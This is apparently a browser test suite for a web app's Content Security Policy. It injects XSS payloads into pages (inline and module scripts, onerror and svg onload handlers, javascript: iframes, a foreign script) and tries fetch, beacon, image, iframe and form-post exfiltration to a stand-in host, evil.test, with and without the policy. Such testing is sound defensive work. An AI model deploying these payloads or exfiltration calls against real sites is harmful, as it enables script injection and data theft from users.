// What somebody managed to put into a page does not run: the policy names our own scripts and nothing else. Each trick is tried twice, with the
// policy and without it, since a trick that never works shows nothing.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, test } from 'node:test';
import { makeSite, startServer, WALK } from '../http/lib/site.mjs';
import { browse } from './lib/browser.mjs';

const EVIL = 'http://evil.test';
const ran = (name) => `(window.ran = window.ran || []).push('${name}')`;
const foreign = `data:text/javascript,${encodeURIComponent(ran('data'))}`;
const TRICKS = {
  inline: `<script>${ran('inline')}</script>`,
  'foreign script': `<script src="${EVIL}/x.js"></script>`,
  'script of a data address': `<script src="${foreign}"></script>`,
  'handler in an attribute': `<img alt="" src="data:," onerror="${ran('handler in an attribute')}">`,
  'javascript: address': `<iframe src="javascript:parent.ran=(parent.ran||[]).concat('javascript: address')"></iframe>`,
  module: `<script type="module">${ran('module')}</script>`,
  'svg handler': `<svg onload="${ran('svg handler')}"></svg>`,
};
const NAMES = ['inline', 'foreign', 'data', 'handler in an attribute', 'javascript: address', 'module', 'svg handler'];

let site, server, browser;
before(async () => {
  site = makeSite({ forms: [WALK], settings: { kiosks: [{ name: 'tent', forms: ['walk'] }] } });
  server = await startServer(site);
  browser = await browse();
});
after(async () => {
  await browser?.close();
  await server?.stop();
  site?.remove();
});

// The page at path with something put in behind its h1, under its own policy or without one. asked: what the browser asked another server for.
async function opened(path, added, use, { lawless = false, ...options } = {}) {
  const context = await browser.newContext({ viewport: { width: 360, height: 640 }, serviceWorkers: 'block', ...options });
  const asked = [];
  try {
    const page = await context.newPage();
    await page.route(`${EVIL}/**`, (route) => {
      asked.push(route.request().url());
      const body = route.request().url().endsWith('.js') ? ran('foreign') : 'x';
      return route.fulfill({ contentType: body === 'x' ? 'text/html' : 'text/javascript', headers: { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin' }, body });
    });
    await page.route(`${server.address}${path}`, async (route) => {
      if (route.request().method() !== 'GET') return route.continue();
      const reply = await route.fetch(), headers = reply.headers();
      if (lawless) delete headers['content-security-policy'];
      return route.fulfill({ response: reply, headers, body: (await reply.text()).replace('</h1>', `</h1>${added}`) });
    });
    await page.goto(server.address + path);
    return await use(page, asked);
  } finally {
    await context.close();
  }
}

const what = (page) => page.evaluate(() => (window.ran || []).slice().sort());

for (const path of ['/f/walk', '/kiosk/tent', '/kiosk/tent/f/walk', '/', '/help', '/r', '/nowhere'])
  test(`${path}: nothing that was put into the page runs, and no other server is asked`, async () => {
    const all = Object.values(TRICKS).join('');
    await opened(path, all, async (page, asked) => {
      await page.waitForLoadState('load');
      assert.deepEqual(await what(page), []);
      assert.deepEqual(asked, []);
      if (path === '/f/walk') await page.waitForFunction(() => window.uzklausi && window.uzklausi.take); // our own script does
    });
  });

test('without the policy each of these tricks works', async () => {
  await opened('/f/walk', Object.values(TRICKS).join(''), async (page) => {
    await page.waitForFunction((count) => window.ran && window.ran.length >= count, NAMES.length);
    assert.deepEqual(await what(page), [...NAMES].sort());
  }, { lawless: true });
});

// Everything by which a page could tell somebody what stands on it.
const tell = (to) => {
  const tries = [
    () => fetch(`${to}/fetch`, { method: 'POST', mode: 'no-cors', body: 'x' }),
    () => navigator.sendBeacon(`${to}/beacon`, 'x'),
    () => new Promise((done) => Object.assign(new Image(), { onload: done, onerror: done, src: `${to}/image` })),
    () => new Promise((done) => Object.assign(new EventSource(`${to}/events`), { onopen: done, onerror: done })),
    () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${to}/style` })),
    () => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${to}/prefetch` })),
    () => document.body.append(Object.assign(document.createElement('iframe'), { src: `${to}/frame` })),
    () => document.body.append(Object.assign(document.createElement('object'), { data: `${to}/object` })),
  ];
  return Promise.all(tries.map(async (one) => one())).catch(() => null);
};

for (const path of ['/f/walk', '/kiosk/tent/f/walk'])
  test(`${path}: not even our own script could tell another server`, async () => {
    const all = await opened(path, '', async (page, asked) => {
      await page.evaluate(tell, EVIL).catch(() => null);
      return asked.slice();
    });
    assert.deepEqual(all, []);
  });

test('without the policy it could', async () => {
  await opened('/f/walk', '', async (page, asked) => {
    await page.evaluate(tell, EVIL).catch(() => null);
    for (const one of ['fetch', 'beacon', 'image', 'events']) assert.ok(asked.includes(`${EVIL}/${one}`), one);
  }, { lawless: true });
});

test('a form that was put in sends nothing elsewhere, and a base moves no address', async () => {
  const added = `<base href="${EVIL}/"><form id="evil" action="${EVIL}/take" method="post"><input name="x" value="y"></form>`;
  const act = (page) => page.evaluate(() => document.getElementById('evil').submit());
  await opened('/f/walk', added, async (page, asked) => {
    await act(page);
    assert.equal(await page.evaluate(() => document.baseURI), page.url());
    assert.deepEqual(asked, []);
    assert.ok(page.url().startsWith(server.address));
  });
  await opened('/f/walk', added, async (page, asked) => {
    await act(page).catch(() => null);
    await page.waitForURL(`${EVIL}/**`);
    assert.deepEqual(asked.filter((url) => url.endsWith('/take')).length, 1);
  }, { lawless: true });
});

test('the policy of every page allows scripts by their hash or from us, and nothing by wish of the page', async () => {
  for (const path of ['/', '/help', '/accessibility', '/r', '/f/walk', '/f/walk/done', '/nowhere', '/kiosk/tent', '/kiosk/tent/f/walk', '/kiosk/tent/staff', '/kiosk/tent/help']) {
    const reply = await fetch(server.address + path), html = await reply.text();
    const policy = Object.fromEntries(reply.headers.get('content-security-policy').split('; ').map((part) => [part.split(' ')[0], part.split(' ').slice(1)]));
    assert.deepEqual(policy['default-src'], ["'none'"], path);
    for (const source of policy['script-src']) assert.match(source, /^'(self|sha256-[A-Za-z0-9+/]{43}=)'$/, path);
    for (const source of policy['style-src']) assert.match(source, /^'sha256-[A-Za-z0-9+/]{43}='$/, path);
    for (const name of ['base-uri', 'frame-ancestors']) assert.deepEqual(policy[name], ["'none'"], path);
    for (const name of ['form-action', 'connect-src']) assert.deepEqual(policy[name], ["'self'"], path);
    for (const [, script] of html.matchAll(/<script>([^]*?)<\/script>/g))
      assert.ok(policy['script-src'].includes(`'sha256-${createHash('sha256').update(script).digest('base64')}'`), path);
    for (const [tag] of html.matchAll(/<script [^>]*>/g)) assert.match(tag, /^<script src="\/a\/[a-z]+\.[0-9a-f]{16}\.js" integrity="sha256-[^"]+" defer>$/, path);
  }
});
